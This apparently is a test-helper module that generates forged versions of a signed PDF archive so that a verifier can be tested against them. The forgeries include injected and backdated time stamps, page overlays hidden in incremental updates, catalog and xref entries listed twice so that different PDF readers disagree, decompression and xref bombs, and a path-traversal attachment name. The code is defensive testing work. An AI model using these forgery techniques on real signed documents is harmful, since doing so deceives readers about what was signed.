"""What an attacker does to a signed build: one function per attack class of tests/cases/verify/.

Each takes a private copy of the session's signed build (with its bag and time stamps) and the test PKI,
changes it the way the attack does, and returns the path to hand to `appeal-archive verify`.
"""

from __future__ import annotations

import asyncio
import atexit
import functools
import hashlib
import io
import json
import os
import re
import shutil
import struct
import tempfile
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pikepdf
from conftest import NAME, made_identity

DEEP_JSON = b"[" * 100_000 + b"]" * 100_000


@functools.cache
def _attacker_identity() -> Path:
    """Someone else's custodian identity, made once per test process (its two RSA-3072 keys take 0.5 s)."""
    folder = Path(tempfile.mkdtemp(prefix="attacker-"))
    atexit.register(shutil.rmtree, folder, True)
    return made_identity(folder / "identity")


def attacker_material():
    """Someone else's signing key and certificate."""
    from appeal_archive.signing.keys import SignerConfig, load_key_material, utc_now

    material, _ = load_key_material(SignerConfig(identity_dir=_attacker_identity()), utc_now())
    return material


def pdf_of(build: Path) -> Path:
    return build / f"{NAME}.pdf"


def bundle_of(build: Path) -> Path:
    return build / f"{NAME}.jsonld"


def bag_of(build: Path) -> Path:
    return build / f"{NAME}-bag"


def rebag(bag: Path) -> None:
    """What someone who edits a bag does next: recompute its manifests, so that BagIt alone is satisfied."""
    import bagit

    bagit.Bag(str(bag)).save(manifests=True)


# --- the PDF's unsigned gap -----------------------------------------------------------------------------


def _gap(data: bytes) -> tuple[int, int]:
    first, length, second, _ = (int(value) for value in re.search(
        rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data).groups())
    return length, second


def _signature_value(data: bytes) -> bytes:
    from asn1crypto import cms

    start, end = _gap(data)
    value = bytes.fromhex(data[start + 1:end - 1].decode())
    return cms.ContentInfo.load(value, strict=False).dump()


def _with_cms(data: bytes, der: bytes) -> bytes:
    start, end = _gap(data)
    width = end - start - 2
    hexed = der.hex().encode()
    assert len(hexed) <= width, "the new signature does not fit the space reserved for it"
    return data[:start] + b"<" + hexed + b"0" * (width - len(hexed)) + b">" + data[end:]


def forged_time_in_gap(build: Path, pki) -> Path:
    """Part of the zero padding re-encoded as PDF syntax: a signing time readers see but nobody signed."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    start, end = _gap(data)
    der_hex = len(_signature_value(data)) * 2
    injected = b"> /M (D:19990101000000Z) /Forged <"
    padding = end - start - 2 - der_hex - len(injected)
    gap = b"<" + data[start + 1:start + 1 + der_hex] + injected + b"0" * padding + b">"
    assert len(gap) == end - start
    pdf.write_bytes(data[:start] + gap + data[end:])
    return pdf


def data_in_padding(build: Path, pki) -> Path:
    """Bytes other than zeros hidden in the signature value's padding, where no signature covers them."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    start, end = _gap(data)
    hidden = start + 1 + len(_signature_value(data)) * 2 + 64
    pdf.write_bytes(data[:hidden] + b"DEADBEEF" + data[hidden + 8:])
    return pdf


def _restamped(signature: bytes, fixed_dt: datetime | None) -> bytes:
    """A CMS signature whose signature time stamp (an unsigned attribute, which its signature does not cover)
    is replaced by one from a made-up authority, over the same signature value."""
    from asn1crypto import cms
    from pki import rogue_time_stamper

    content = cms.ContentInfo.load(signature)
    signer_info = content["content"]["signer_infos"][0]
    stamper = rogue_time_stamper(fixed_dt)
    token = asyncio.run(stamper.async_timestamp(hashlib.sha256(signer_info["signature"].native).digest(), "sha256"))
    attributes = [attribute for attribute in signer_info["unsigned_attrs"]
                  if attribute["type"].native != "signature_time_stamp_token"] if signer_info["unsigned_attrs"] else []
    attributes.append(cms.CMSAttribute({"type": "signature_time_stamp_token", "values": [token]}))
    signer_info["unsigned_attrs"] = cms.CMSAttributes(attributes)
    return content.dump()  # only what changed is encoded again; the rest keeps its bytes


def _restamped_pdf(build: Path, fixed_dt: datetime | None) -> Path:
    """The PDF signature's time-stamp token replaced by one from a made-up authority, in the unsigned gap."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    pdf.write_bytes(_with_cms(data, _restamped(_signature_value(data), fixed_dt)))
    return pdf


def rogue_time_stamp_in_pdf(build: Path, pki) -> Path:
    return _restamped_pdf(build, None)


def backdated_time_stamp_in_pdf(build: Path, pki) -> Path:
    return _restamped_pdf(build, datetime(2020, 1, 1, tzinfo=UTC))


def appended_text_update(build: Path, pki) -> Path:
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

    pdf = pdf_of(build)
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf.read_bytes()), strict=False)
    page_ref = writer.root["/Pages"]["/Kids"].raw_get(1)
    page_ref.get_object()["/Contents"] = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 24 Tf 100 400 Td (signatory withdrawn) Tj ET"))
    writer.mark_update(page_ref)
    out = io.BytesIO()
    writer.write(out)
    pdf.write_bytes(out.getvalue())
    return pdf


def _time_stamped(pdf: Path, stamper) -> Path:
    """Anyone can add a document time stamp: it needs no key of the signer's, only an authority (or a made-up
    one)."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import signers

    writer = IncrementalPdfFileWriter(io.BytesIO(pdf.read_bytes()), strict=False)
    out = asyncio.run(signers.PdfTimeStamper(stamper, field_name="AttackerTimeStamp").async_timestamp_pdf(
        writer, "sha256", output=io.BytesIO()))
    pdf.write_bytes(out.getvalue())
    return pdf


def page_changed_then_time_stamped(build: Path, pki) -> Path:
    """Page content changed in an update, then a document time stamp over it from the PKI's real authority:
    every signature and time stamp is intact, and the page is not what was signed."""
    from pyhanko.sign.timestamps import HTTPTimeStamper

    return _time_stamped(appended_text_update(build, pki), HTTPTimeStamper(pki.tsa_urls[1]))


def _appended(data: bytes, objects: dict[int, bytes], info: int | None = None) -> bytes:
    """An incremental update written by hand, as an attacker's tool would: `objects` maps object numbers to
    their new bodies; `info` points the trailer's /Info elsewhere."""
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    trailer = reader.trailer_view
    body, offsets = bytearray(), {}
    for number in sorted(objects):
        offsets[number] = len(data) + len(body)
        body += f"{number} 0 obj\n".encode() + objects[number] + b"\nendobj\n"
    table = "".join(f"{number} 1\n{offset:010d} 00000 n \n" for number, offset in offsets.items())
    size = max(int(trailer["/Size"]), *(number + 1 for number in objects))
    info_number = info if info is not None else trailer.raw_get("/Info").idnum
    update = (f"xref\n0 1\n0000000000 65535 f \n{table}trailer\n<< /Size {size} "
              f"/Root {trailer.raw_get('/Root').idnum} 0 R /Info {info_number} 0 R "
              f"/Prev {reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1)} >>\n"
              f"startxref\n{len(data) + len(body)}\n%%EOF\n").encode()
    return data + bytes(body) + update


def _stream(dictionary: bytes, content: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def _object(data: bytes, path: str) -> tuple[int, bytes]:
    """The number and the newest body (as PDF syntax) of the object at `path` from the catalog, e.g.
    "/DSS" or "/Pages/Kids/0" ("" for the catalog itself)."""
    with pikepdf.open(io.BytesIO(data)) as document:
        obj = document.Root
        for step in filter(None, path.strip("/").split("/")):
            obj = obj[int(step)] if step.isdigit() else obj["/" + step]
        return obj.objgen[0], obj.unparse(resolved=True)


def metadata_changed_then_time_stamped(build: Path, pki) -> Path:
    """The XMP metadata readers show (its title) rewritten in place, in an update that touches nothing else, as
    a validation-data update rewrites it; then time-stamped by a real authority."""
    from pyhanko.sign.timestamps import HTTPTimeStamper

    pdf = pdf_of(build)
    pdf.write_bytes(_with_xmp(pdf.read_bytes(), lambda xmp: xmp.replace(
        b"Appeal of Belarusians to the EU", b"Withdrawn by its signatories")))
    return _time_stamped(pdf, HTTPTimeStamper(pki.tsa_urls[1]))


def _with_xmp(data: bytes, change) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as document:
        number, xmp = document.Root.Metadata.objgen[0], document.Root.Metadata.read_bytes()
    return _appended(data, {number: _stream(b"/Type /Metadata /Subtype /XML", change(xmp))})


def hidden_xmp_alternative(build: Path, pki) -> Path:
    """A second language alternative of the title beside the signed x-default one, which a reader set to
    English shows; the signed value itself is unchanged (found by an attacker)."""
    pdf = pdf_of(build)
    pdf.write_bytes(_with_xmp(pdf.read_bytes(), lambda xmp: xmp.replace(
        b'<rdf:Alt><rdf:li xml:lang="x-default">Appeal',
        b'<rdf:Alt><rdf:li xml:lang="en">WITHDRAWN</rdf:li><rdf:li xml:lang="x-default">Appeal')))
    return pdf


def overlay_typed_as_xref_in_two_updates(build: Path, pki) -> Path:
    """A full-page widget that paints "THIS APPEAL WAS WITHDRAWN" over page 1, in two updates that each look
    like validation data when judged alone: the first adds the widget (saying /Type /XRef) and its appearance
    (filed under a new /DSS /VRI entry) with nothing referring to the widget; the second only adds it to the
    page's /Annots and the form's /Fields. pyHanko's own difference analysis accepted it (found by an
    attacker)."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    size = _size(data)
    vri, appearance, widget = size, size + 1, size + 2
    dss_number, dss = _object(data, "/DSS")
    paint = b"q 1 1 1 rg 0 0 595 842 re f Q BT /F1 30 Tf 40 700 Td (THIS APPEAL WAS WITHDRAWN) Tj ET"
    data = _appended(data, {
        dss_number: dss.replace(b"/VRI <<", b"/VRI << /%s %d 0 R" % (b"CD" * 20, vri), 1),
        vri: b"<< /Type /VRI /Cert [ %d 0 R ] >>" % appearance,
        appearance: _stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 << "
                            b"/Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>", paint),
        widget: b"<< /Type /XRef /Subtype /Widget /FT /Sig /T (Withdrawal) /F 4 /Rect [0 0 595 842] "
                b"/AP << /N %d 0 R >> >>" % appearance})
    page_number, page = _object(data, "/Pages/Kids/0")
    form_number, form = _object(data, "/AcroForm")
    pdf.write_bytes(_appended(data, {page_number: page.replace(b"/Annots [", b"/Annots [ %d 0 R" % widget, 1),
                                     form_number: form.replace(b"/Fields [", b"/Fields [ %d 0 R" % widget, 1)}))
    return pdf


def metadata_repointed_at_page_content(build: Path, pki) -> Path:
    """One update points the catalog's /Metadata at page 3's content stream and rewrites that stream as XMP
    whose xmp:MetadataDate (a property pyHanko rewrites, so not compared) carries page operators: page 3 then
    reads "sentenced to 3 years". On a file with later updates, /Extensions is also pointed at the old XMP
    object, so that its rewrite by those updates seems accounted for (found by an attacker, issue 17)."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    with pikepdf.open(io.BytesIO(data)) as document:
        contents = document.pages[2].obj.Contents
        content = (contents[0] if isinstance(contents, pikepdf.Array) else contents).objgen[0]
        xmp_number, xmp = document.Root.Metadata.objgen[0], document.Root.Metadata.read_bytes()
        catalog_number, catalog = document.Root.objgen[0], document.Root.unparse(resolved=True)
        renewed = len(document.Root.get("/AcroForm", {}).get("/Fields", [])) > 1
    operators = b"2023-05-21T00:00:00Z Q BT /F1 11 Tf 72 600 Td (sentenced to 3 years) Tj ET"
    forged = re.sub(rb'xmp:MetadataDate="[^"]*"', b'xmp:MetadataDate="' + operators + b'"', xmp)
    assert forged != xmp
    catalog = re.sub(rb"/Metadata \d+ 0 R", b"/Metadata %d 0 R" % content, catalog)
    if renewed:
        catalog = re.sub(rb"/Extensions (<<.*?>> >>|\d+ 0 R)", b"/Extensions %d 0 R" % xmp_number, catalog, flags=re.S)
    pdf.write_bytes(_appended(data, {catalog_number: catalog,
                                     content: _stream(b"/Type /Metadata /Subtype /XML", forged)}))
    return pdf


def catalog_listed_twice(build: Path, pki) -> Path:
    """One update's cross-reference table lists the catalog twice: first a forged catalog whose /Pages is a new
    one-page tree ("FORGED: APPEAL WITHDRAWN") and /OpenAction a script, then the catalog unchanged. pyHanko
    reads the last entry, poppler, qpdf and pypdf the first: verify and pyHanko's validator accepted it, and
    readers showed the forgery (found by an attacker, issue 17)."""
    from update_forgeries import appended

    pdf = pdf_of(build)
    data = pdf.read_bytes()
    size = _size(data)
    number, catalog = _object(data, "")
    content = b"BT /F1 36 Tf 72 700 Td (FORGED: APPEAL WITHDRAWN) Tj ET"
    forged = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % (size + 3), catalog).rstrip()[:-2] \
        + b" /OpenAction %d 0 R >>" % (size + 4)
    pdf.write_bytes(appended(data, {
        (size, 0): _stream(b"", content),
        (size + 1, 0): b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        (size + 2, 0): b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
                       b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (size + 3, size, size + 1),
        (size + 3, 0): b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (size + 2),
        (size + 4, 0): b"<< /S /JavaScript /JS (app.alert('forged');) >>"}, twice=(number, 0, forged, catalog)))
    return pdf


def page_listed_twice_then_time_stamped(build: Path, pki) -> Path:
    """Page 2 listed twice in one update's table, first with a new content stream painting "APPEAL WITHDRAWN",
    then unchanged; then a document time stamp from the PKI's real authority over it (found by an attacker)."""
    from pyhanko.sign.timestamps import HTTPTimeStamper
    from update_forgeries import appended

    pdf = pdf_of(build)
    data = pdf.read_bytes()
    size = _size(data)
    number, page = _object(data, "Pages/Kids/1")
    forged = re.sub(rb"/Contents (\d+ 0 R|\[[^\]]*\])", b"/Contents %d 0 R" % size, page)
    assert forged != page
    pdf.write_bytes(appended(data, {(size, 0): _stream(b"", b"q 1 1 1 rg 0 0 595 842 re f Q BT /F1 30 Tf 60 700 Td "
                                                       b"(APPEAL WITHDRAWN) Tj ET")}, twice=(number, 0, forged, page)))
    return _time_stamped(pdf, HTTPTimeStamper(pki.tsa_urls[1]))


def validation_data_listed_twice(build: Path, pki) -> Path:
    """The /DSS listed twice in one update's table, first emptied, then whole: every reader but pyHanko saw no
    validation data (found by an attacker)."""
    from update_forgeries import appended

    pdf = pdf_of(build)
    data = pdf.read_bytes()
    number, dss = _object(data, "/DSS")
    pdf.write_bytes(appended(data, {}, twice=(number, 0, b"<< /Type /DSS /Certs [] /OCSPs [] /CRLs [] >>", dss)))
    return pdf


def _forged_first_page(data: bytes, number: int) -> dict[int, bytes]:
    """Objects that forge page 1 without writing the page: its signed content stream with new text, and its
    fonts gaining a Helvetica (new object `number`)."""
    with pikepdf.open(io.BytesIO(data)) as document:
        page = document.pages[0].obj
        contents = page.Contents[0] if isinstance(page.Contents, pikepdf.Array) else page.Contents
        fonts = page.Resources.Font
        font_number, font_body = fonts.objgen[0], fonts.unparse(resolved=True)
        content_number = contents.objgen[0]
    return {content_number: _stream(b"", b"BT /FX 24 Tf 40 500 Td (FORGED APPEAL WITHDRAWN) Tj ET"),
            number: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            font_number: font_body.rstrip()[:-2] + b" /FX %d 0 R >>" % number}


def _trailer_line(data: bytes, size: int) -> bytes:
    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(io.BytesIO(data), strict=False)
    trailer = reader.trailer_view
    return b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\n" % (
        size, trailer.raw_get("/Root").idnum, trailer.raw_get("/Info").idnum,
        reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1))


def startxref_twice(build: Path, pki) -> Path:
    """The last line but one holds two `startxref`s: pyHanko and pypdf read the offset of an empty update, qpdf
    and poppler the last `startxref` and a table that forges page 1 with the signed objects' numbers, whose
    bytes lie unreferenced in the update (found by an attacker, issue 17)."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    size = _size(data)
    body, offsets = bytearray(b"\n"), {}
    for number, content in sorted(_forged_first_page(data, size).items()):
        offsets[number] = len(data) + len(body)
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    forged_table = len(data) + len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n" + b"".join(b"%d 1\n%010d 00000 n \n" % (number, offset)
                                                          for number, offset in sorted(offsets.items()))
    body += _trailer_line(data, size + 1)
    empty_table = len(data) + len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n" + _trailer_line(data, size)
    body += b"startxref startxref %d\n%d\n%%%%EOF\n" % (forged_table, empty_table)
    pdf.write_bytes(data + bytes(body))
    return pdf


def xref_offset_with_an_underscore(build: Path, pki) -> Path:
    """An update's table gives an offset as `0_00185851`, which pyHanko's int() reads; qpdf and poppler find
    the table damaged and rebuild one by scanning the file, where the update restates every object and then
    forges page 1 (found by an attacker, issue 17)."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    size = _size(data)
    body = bytearray(b"\n")
    with pikepdf.open(io.BytesIO(data)) as document:
        for obj in document.objects:
            if not obj.is_indirect or obj.objgen[0] == 0:
                continue
            if isinstance(obj, pikepdf.Stream):
                if obj.get("/Type") in ("/XRef", "/ObjStm"):
                    continue
                raw = obj.read_raw_bytes()
                dictionary = pikepdf.Dictionary(obj.stream_dict)
                dictionary.Length = len(raw)
                content = dictionary.unparse(resolved=True) + b"\nstream\n" + raw + b"\nendstream"
            else:
                content = obj.unparse(resolved=True)
            body += b"%d %d obj\n" % obj.objgen + content + b"\nendobj\n"
    for number, content in sorted(_forged_first_page(data, size + 1).items()):
        body += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    orphan = b"%010d" % (len(data) + len(body))
    body += b"%d 0 obj\n(orphan)\nendobj\n" % size
    table = len(data) + len(body)
    body += b"xref\n0 1\n0000000000 65535 f \n%d 1\n" % size + orphan[:1] + b"_" + orphan[2:] + b" 00000 n \n"
    body += _trailer_line(data, size + 2) + b"startxref\n%d\n%%%%EOF\n" % table
    pdf.write_bytes(data + bytes(body))
    return pdf


def object_stream_first_offset(build: Path, pki) -> Path:
    """One update stores the catalog in an object stream whose first header offset lies beyond /First:
    pyHanko and qpdf read the object at /First plus that offset (the signed catalog), poppler at the offset
    itself (a forged catalog whose page tree holds one page, "FORGED APPEAL WITHDRAWN"), with no warning
    (found by an attacker, issue 17, third round)."""
    import struct

    from pyhanko.pdf_utils.reader import PdfFileReader

    pdf = pdf_of(build)
    data = pdf.read_bytes()
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    trailer = reader.trailer_view
    size = int(trailer["/Size"])
    number, catalog = _object(data, "")
    stream_number, dummy, pages, page, content, font, xref = range(size, size + 7)
    forged = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % pages, catalog)
    first = len(forged) + 100
    offset = first + 10
    second = offset + len(catalog) + 10
    packed = bytearray(b" " * (first + second + 10))
    header = b"%d %d %d %d" % (number, offset, dummy, second)
    packed[:len(header)] = header
    packed[offset:offset + len(forged)] = forged  # poppler's object
    packed[first + offset:first + offset + len(catalog)] = catalog  # pyHanko's and qpdf's
    packed[first + second:first + second + 4] = b"null"
    text = b"BT /FX 24 Tf 40 500 Td (FORGED APPEAL WITHDRAWN) Tj ET"
    plain = {pages: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page,
             page: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << "
                   b"/FX %d 0 R >> >> >>" % (pages, content, font),
             content: _stream(b"", text), font: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}
    body, entries = bytearray(b"\n"), {}
    for each in sorted(plain):
        entries[each] = (1, len(data) + len(body), 0)
        body += b"%d 0 obj\n" % each + plain[each] + b"\nendobj\n"
    entries[stream_number] = (1, len(data) + len(body), 0)
    body += b"%d 0 obj\n<< /Type /ObjStm /N 2 /First %d /Length %d >>\nstream\n" % (stream_number, first, len(packed)) \
        + bytes(packed) + b"\nendstream\nendobj\n"
    entries[number], entries[dummy] = (2, stream_number, 0), (2, stream_number, 1)
    entries[xref] = (1, len(data) + len(body), 0)
    index, rows = [], b""
    for each in sorted(entries):
        if not index or each != index[-1][0] + index[-1][1]:
            index.append([each, 0])
        index[-1][1] += 1
        rows += struct.pack(">BIH", *entries[each])
    identifier = b"".join(b"<%s>" % part.original_bytes.hex().encode() for part in trailer["/ID"])
    body += (b"%d 0 obj\n<< /Type /XRef /Size %d /Root %d 0 R /Info %d 0 R /ID [%s] /Prev %d /W [1 4 2] /Index [%s] "
             b"/Length %d >>\nstream\n" % (xref, xref + 1, number, trailer.raw_get("/Info").idnum, identifier,
                                           reader.xrefs.get_startxref_for_revision(reader.xrefs.total_revisions - 1),
                                           b" ".join(b"%d %d" % tuple(pair) for pair in index), len(rows))
             + rows + b"\nendstream\nendobj\n")
    body += b"startxref\n%d\n%%%%EOF\n" % entries[xref][1]
    pdf.write_bytes(data + bytes(body))
    return pdf


def _dss_rewritten(build: Path, dss: bytes) -> Path:
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    number, _ = _object(data, "/DSS")
    pdf.write_bytes(_appended(data, {number: dss}))
    return pdf


def validation_data_emptied(build: Path, pki) -> Path:
    """The /DSS a document time stamp covers rewritten as an empty store: the file then looked like B-T, with
    "no validation data", instead of failing (found by an attacker, issue 17)."""
    return _dss_rewritten(build, b"<< /Type /DSS >>")


def validation_data_cut_to_certificates(build: Path, pki) -> Path:
    """The /DSS keeps its certificates and loses its OCSP responses, CRLs and VRI entries."""
    _, dss = _object(pdf_of(build).read_bytes(), "/DSS")
    certificates = re.search(rb"/Certs \[[^\]]*\]", dss).group()
    return _dss_rewritten(build, b"<< /Type /DSS " + certificates + b" >>")


def information_swapped(build: Path, pki) -> Path:
    """The document information readers show as the title replaced: a new dictionary (saying /Type /XRef) in
    one update, the trailer's /Info pointed at it in the next (found by an attacker)."""
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    number = _size(data)
    data = _appended(data, {number: b"<< /Type /XRef /Title (WITHDRAWN: Appeal of Belarusians to the EU) >>"})
    dss_number, dss = _object(data, "/DSS")
    pdf.write_bytes(_appended(data, {dss_number: dss}, info=number))
    return pdf


def _size(data: bytes) -> int:
    from pyhanko.pdf_utils.reader import PdfFileReader

    return int(PdfFileReader(io.BytesIO(data), strict=False).trailer_view["/Size"])


def _new_dss_certificate(build: Path, content: bytes, dictionary: bytes = b"") -> Path:
    pdf = pdf_of(build)
    data = pdf.read_bytes()
    number = _size(data)
    dss_number, dss = _object(data, "/DSS")
    pdf.write_bytes(_appended(data, {dss_number: dss.replace(b"/Certs [", b"/Certs [ %d 0 R" % number, 1),
                                     number: _stream(dictionary, content)}))
    return pdf


def garbage_certificate_in_dss(build: Path, pki) -> Path:
    """Three bytes that are no certificate among the validation data (it made verify crash)."""
    return _new_dss_certificate(build, b"\x30\x82\x01")


def inflating_certificate_in_dss(build: Path, pki) -> Path:
    """A "certificate" of 65 KB of deflated zeros that inflates to 64 MB (it made verify crash)."""
    import zlib

    return _new_dss_certificate(build, zlib.compress(bytes(64 << 20), 9), b"/Filter /FlateDecode")


def backdated_document_time_stamp(build: Path, pki) -> Path:
    """A document time stamp from a made-up authority, dated before the signature's own time stamp."""
    from pki import rogue_time_stamper

    return _time_stamped(pdf_of(build), rogue_time_stamper(datetime(2020, 1, 1, tzinfo=UTC)))


def second_signature_appended(build: Path, pki) -> Path:
    """Someone else's signature added after the archive's, as an incremental update."""
    from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
    from pyhanko.sign import fields, signers

    from appeal_archive.signing.sign import pyhanko_signer

    pdf = pdf_of(build)
    material = attacker_material()
    metadata = signers.PdfSignatureMetadata(field_name="Approval", md_algorithm="sha256",
                                            subfilter=fields.SigSeedSubFilter.PADES)
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf.read_bytes()), strict=False)
    out = asyncio.run(signers.PdfSigner(metadata, signer=pyhanko_signer(material)).async_sign_pdf(
        writer, output=io.BytesIO()))
    pdf.write_bytes(out.getvalue())
    return pdf


def xref_bomb(build: Path, pki) -> Path:
    """58 KB whose cross-reference stream declares 20 million objects: a parser that believes it runs out of
    memory (found by a tester: 4 GB in pyHanko before the jail)."""
    import zlib

    count, compressor = 20_000_000, zlib.compressobj(9)
    table = b"".join(compressor.compress(b"\x01\x00\x00" * 1_000_000) for _ in range(count // 1_000_000))
    table += compressor.flush()
    pdf = pdf_of(build)
    head = b"%PDF-1.7\n"
    body = (b"1 0 obj\n<< /Type /XRef /Size %d /W [1 1 1] /Index [0 %d] /Root 2 0 R /Filter /FlateDecode "
            b"/Length %d >>\nstream\n" % (count, count, len(table)) + table + b"\nendstream\nendobj\n")
    pdf.write_bytes(head + body + b"startxref\n%d\n%%%%EOF\n" % len(head))
    return pdf


# --- attachments (the file is re-saved, so its signature breaks too: what matters is no crash) -------------


def resigned(build: Path, change) -> Path:
    """The archive's PDF stripped of its signature, changed by `change(document)`, and signed again with a key
    of the attacker's own: what verify must still read safely when no --trust-root rules the key out."""
    return resigned_pdf(pdf_of(build), change)


def unsigned_copy(pdf: bytes, change=None) -> bytes:
    """The PDF without its signature field, changed by change(document), saved whole."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        form = document.Root.AcroForm
        form.Fields = pikepdf.Array([field for field in form.Fields if field.get("/FT") != pikepdf.Name.Sig])
        for page in document.pages:
            if "/Annots" in page.obj:
                page.obj.Annots = pikepdf.Array([annot for annot in page.obj.Annots
                                                 if annot.get("/FT") != pikepdf.Name.Sig])
        if change is not None:
            change(document)
        buffer = io.BytesIO()
        document.save(buffer, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return buffer.getvalue()


def resigned_pdf(pdf: Path, change, material=None) -> Path:
    """`pdf` stripped of its signature, changed by `change(document)` and signed again at B-B, by `material` (a
    signer's key and certificate) or else by the attacker's own."""
    from appeal_archive.signing.sign import sign_pdf

    pdf.write_bytes(sign_pdf(unsigned_copy(pdf.read_bytes(), change), material or attacker_material(),
                             reason="an attacker's own signature"))
    return pdf


def replacing(name: str, content: bytes | None):
    """A change (for `resigned_pdf`) replacing the attached file `name` wherever it travels: attached on its own,
    or (above 2,000 records) as a member of records.zip or canonical.zip; attached, when the PDF carries no
    such file; removed, when `content` is None."""
    def change(document) -> None:
        holder = next((zip_name for zip_name, folder in (("records.zip", "records/"), ("canonical.zip", "canonical/"))
                       if name.startswith(folder) and zip_name in document.attachments), None)
        original = document.attachments[holder].get_file().read_bytes() if holder else b""
        if name in document.attachments or not original or (
                content is not None and name not in zipfile.ZipFile(io.BytesIO(original)).namelist()):
            if content is None:
                del document.attachments[name]
            else:
                document.attachments[name] = pikepdf.AttachedFileSpec(document, content,
                                                                      filename=name.replace("/", "__"))
            return
        rewritten = io.BytesIO()
        with zipfile.ZipFile(io.BytesIO(original)) as old, zipfile.ZipFile(rewritten, "w") as new:
            for member in old.infolist():
                if member.filename != name or content is not None:
                    new.writestr(member, content if member.filename == name else old.read(member))
        document.attachments[holder] = pikepdf.AttachedFileSpec(document, rewritten.getvalue(), filename=holder)

    return change


def _replace_attachment(build: Path, name: str, content: bytes) -> Path:
    return resigned(build, replacing(name, content))


def huge_integer_in_attached_record(build: Path, pki) -> Path:
    return _replace_attachment(build, "records/rallies/london-2023-05-21.yaml",
                               b"id: london-2023-05-21\nvalue: " + b"6" * 5000 + b"\n")


def deep_json_attached_manifest(build: Path, pki) -> Path:
    return _replace_attachment(build, "manifest.json", DEEP_JSON)


def _zip_with_one_member(flags: int = 0, method: int | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("records/persons/x.yaml", b"id: x\n")
    data = bytearray(buffer.getvalue())
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature)
        struct.pack_into("<H", data, at + flag_offset, flags)
        if method is not None:
            struct.pack_into("<H", data, at + flag_offset + 2, method)
    return bytes(data)


def encrypted_zip_member(build: Path, pki) -> Path:
    return _replace_attachment(build, "records.zip", _zip_with_one_member(flags=0x1))


def unknown_method_zip_member(build: Path, pki) -> Path:
    return _replace_attachment(build, "records.zip", _zip_with_one_member(method=99))


def inflating_attachment(build: Path, pki) -> Path:
    """A source document attached as 2.7 MB of deflated zeros that inflate to 600 MB, over the 512 MB a source
    document may hold, and over what the jail lets verify hold (deflated fast: at the highest level, 600 KB,
    making it takes 2 s)."""
    import zlib

    compressor, chunk = zlib.compressobj(1), b"\0" * (1 << 20)
    compressed = b"".join(compressor.compress(chunk) for _ in range(600)) + compressor.flush()

    def change(document) -> None:
        spec = pikepdf.AttachedFileSpec(document, b"placeholder", filename="records__sources__bomb.txt")
        spec.obj.EF.F.write(compressed, filter=pikepdf.Name.FlateDecode)
        document.attachments["records/sources/bomb.txt"] = spec

    return resigned(build, change)


def traversing_attachment_name(build: Path, pki) -> Path:
    """An attachment whose name climbs out of the records folder: --rebuild must never write it."""
    target = build.parent / "victim.txt"
    name = "records/" + "../" * 12 + str(target).lstrip("/")
    return _replace_attachment(build, name, b"overwritten by the attacker\n")


# --- the bundle ---------------------------------------------------------------------------------------


def _resigned_bundle(build: Path, content: bytes) -> Path:
    """The bundle replaced and signed again, by its key holder (the attack tests what verify reads)."""
    from appeal_archive.signing.sign import sign_bundle

    bundle = bundle_of(build)
    bundle.write_bytes(content)
    material = attacker_material()
    bundle.with_name(bundle.name + ".p7s").write_bytes(sign_bundle(content, material))
    return bundle


def _edited_identifier(build: Path, value: str) -> Path:
    text = bundle_of(build).read_text(encoding="utf-8")
    # The record's node (which the manifest is rebuilt from), not the person's.
    edited = text.replace('"identifier":"lukashenka","isPartOf"', f'"identifier":{value},"isPartOf"', 1)
    assert edited != text, "the record's node is no longer written as this attack expects"
    return _resigned_bundle(build, edited
                            .encode("utf-8", "surrogatepass"))


def identifier_thirty_digits(build: Path, pki) -> Path:
    return _edited_identifier(build, "1" * 30)


